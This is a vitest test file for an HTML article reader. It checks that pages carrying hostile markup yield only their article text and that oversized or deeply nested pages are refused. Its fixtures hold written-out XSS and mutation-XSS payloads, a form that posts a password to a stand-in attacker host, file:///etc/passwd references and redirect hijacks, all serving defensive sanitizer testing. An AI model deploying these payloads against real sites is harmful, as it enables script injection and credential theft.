import { describe, expect, test } from 'vitest';
import { readArticle, refusal } from '../sample-input';

const words = 'The commission opened its inquiry in the spring, heard eleven witnesses over six weeks, and wrote to every operator in the country.';
const page = (body: string, head = ''): string =>
  `<!doctype html><html lang="en"><head><title>Inquiry closed</title>${head}</head><body><article><h1>Inquiry closed</h1><p>${words}</p>${body}<p>${words}</p></article></body></html>`;

/** What must never be part of a text that was read. */
const TRACES = /evil|alert\(|\/\/|<\/?\w+[\s>]|@import|payload/;

describe('a web page that wants more than to be read gives its words alone', () => {
  test.each([
    ['scripts', '<script>document.title = "evil"</script><script src="https://evil.example/a.js"></script>'],
    ['event handlers', '<img src="x" onerror="alert(1)"><p onclick="alert(1)" onmouseover=alert(1)>Click here now</p>'],
    ['javascript: and data: links', '<a href="javascript:alert(1)">one</a> <a href="data:text/html,<script>alert(1)</script>">two</a> <a href="vbscript:evil">three</a>'],
    ['markup that mends itself into a script', '<svg><p><style><!--</style><img title="--><img src=1 onerror=alert(1)>"></style></svg><math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></table></mtext></math>'],
    ['frames with pages in them', '<iframe srcdoc="<script>alert(1)</script>evil"></iframe><iframe src="data:text/html,evil"></iframe><frameset><frame src="https://evil.example/"></frameset>'],
    ['objects, embeds and applets', '<object data="https://evil.example/x.swf">evil</object><embed src="https://evil.example/y.swf"><applet code="Evil"></applet>'],
    ['styles that fetch', '<style>@import url(https://evil.example/a.css); p { background: url(https://evil.example/b.png) }</style><p style="background:url(//evil.example/c)">Plain words here.</p>'],
    ['pictures from the disk and the network', '<img src="file:///etc/passwd"><img src="\\\\evil\\share\\x.png"><img srcset="https://evil.example/1.png 1x"><picture><source srcset="https://evil.example/2.png"></picture>'],
    ['forms', '<form action="https://evil.example/steal"><input name="password" value="payload"><textarea>payload</textarea><button formaction="https://evil.example/">Send</button></form>'],
    ['a template and comments', '<template><p>evil</p></template><!-- evil --><![CDATA[ evil ]]><?php evil ?>'],
  ])('%s', async (_, body) => {
    const article = await readArticle('a.html', page(body));
    expect(article.text).toContain(words);
    expect(article.text).not.toMatch(TRACES);
  });

  test.each([
    ['sends the reader elsewhere', '<meta http-equiv="refresh" content="0;url=https://evil.example/">'],
    ['moves every link', '<base href="https://evil.example/">'],
    ['looks names up ahead of time', '<link rel="dns-prefetch" href="//evil.example"><link rel="preconnect" href="https://evil.example"><link rel="prerender" href="https://evil.example/">'],
    ['brings a policy of its own', '<meta http-equiv="Content-Security-Policy" content="default-src *">'],
  ])('also where its head %s', async (_, head) => {
    const article = await readArticle('a.html', page('', head));
    expect(article.text).not.toMatch(TRACES);
    expect(JSON.stringify(article.meta)).not.toContain('evil');
  });

  test('and names of its elements hide nothing of the document from the reader', async () => {
    const clobbering = ['body', 'documentElement', 'querySelector', 'childNodes', 'getAttribute', 'textContent', 'nodeType', 'firstChild', '__proto__', 'constructor']
      .map((name) => `<a id="${name}" name="${name}">x</a><form id="${name}"><input name="${name}"></form>`)
      .join('');
    expect((await readArticle('a.html', page(clobbering))).text).toContain(words);
  });

  test('and 10,000 attributes, or one of a megabyte, cost no more than their length', async () => {
    const many = Array.from({ length: 10_000 }, (_, i) => `a${i}="${i}"`).join(' ');
    expect((await readArticle('a.html', page(`<p ${many}>Words.</p><p title="${'x'.repeat(1_000_000)}">More.</p>`))).text).toContain('More.');
  });
});

describe('a web page is refused at once', () => {
  test.each([
    ['when it nests 10,000 deep', '<div>'.repeat(10_000), 'nested-too-deep'],
    ['when it nests lists that its tree would nest further', '<ul><li>'.repeat(5_000), 'nested-too-deep'],
    ['when it is made of a million tags', '<i></i>'.repeat(1_000_000), 'too-many-elements'],
    ['when it is 100 MB', new Uint8Array(100_000_000).fill(0x20), 'too-large'],
    ['when it is one text of 10 MB', `<p>${'word '.repeat(2_000_000)}</p>`, 'line-too-long'],
    ['when it holds no words', '<html><body><script>evil()</script></body></html>', 'no-text'],
    ['when it is cut off inside a tag', '<html><body><p class="', 'no-text'],
  ])('%s', async (_, content, code) => {
    expect((await refusal('a.html', content)).code).toBe(code);
  });
});

describe('a page whose tags do not fit together', () => {
  test('is read when its first tag is never closed, or stands in a comment', async () => {
    expect(await refusal('a.html', '<!doctype html><html><head><title<article><h1>Arrests</h1><p>Police held 12 men.')).toMatchObject({ code: 'no-text' });
    expect((await readArticle('a.html', `<!doctype html><<!--html><head><title>T</title></head><body><p>-->${words}</p>`)).text).toContain('eleven witnesses');
  });

  test('says what tables in tables hold once, however deep they stand', async () => {
    const deep = `${'<table><tr><td>'.repeat(40)}${words}${'</td></tr></table>'.repeat(40)}`;
    const { text } = await readArticle('a.html', page(deep));
    expect(text.split('eleven witnesses')).toHaveLength(4);
  });
});
